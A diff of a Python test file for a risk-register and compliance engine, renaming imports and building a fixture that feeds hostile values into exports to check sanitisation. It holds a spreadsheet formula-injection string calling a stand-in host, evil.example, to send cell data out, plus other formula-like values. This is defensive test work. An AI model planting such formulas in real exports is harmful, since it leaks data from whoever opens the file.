@@ -24,8 +24,9 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from engine import exports, query, register, soa, treatment
-from engine.exports_safe import FORMULA_PREFIXES, safe_frame, safe_text
+from engine import exports, plan, register, soa
+from engine.exports.safe import FORMULA_PREFIXES, safe_frame, safe_text
+from engine.store import query
 
 HOSTILE = Path(__file__).resolve().parent.parent / "data" / "hostile"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -52,7 +53,7 @@ def hostile_db(tmp_path_factory: pytest.TempPathFactory, template_db: Path) -> P
     soa.set_row(db, "iso42001-2023", "A.6.2.6", applicable=True, reasons=["risk_treatment"], owner="-1+1",
                 implementation_notes="line one\nline two | pipe", **WHO)
     rid = register.list_risks(db)["id"][0]
-    treatment.add_action(db, title=DDE, owner="@ops", description=FORMULA, effort=2, risk_ids=[rid],
+    plan.add_action(db, title=DDE, owner="@ops", description=FORMULA, effort=2, risk_ids=[rid],
                          controls=["27001:A.8.13"], **WHO)
     soa.snapshot(db, approved_by="=approver()", note=MARKUP, **WHO)
     return db
